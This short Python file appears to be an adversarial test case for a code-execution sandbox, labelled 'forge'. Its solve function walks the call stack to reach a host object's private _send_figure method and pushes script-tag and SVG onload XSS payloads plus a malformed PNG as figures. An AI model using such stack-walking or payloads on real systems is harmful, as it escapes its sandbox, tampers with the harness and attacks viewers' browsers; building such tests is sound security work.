# class: forge
# success: something that is no picture is shown as one
import sys
import numpy as np

def solve(x):
    frame = sys._getframe()
    while frame:
        session = frame.f_locals.get("self")
        if hasattr(session, "_send_figure"):
            session._send_figure("<script>alert(1)</script>", b"<svg onload=alert(1)>" * 100)
            session._send_figure("t", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff" * 64)
        frame = frame.f_back
    return 0
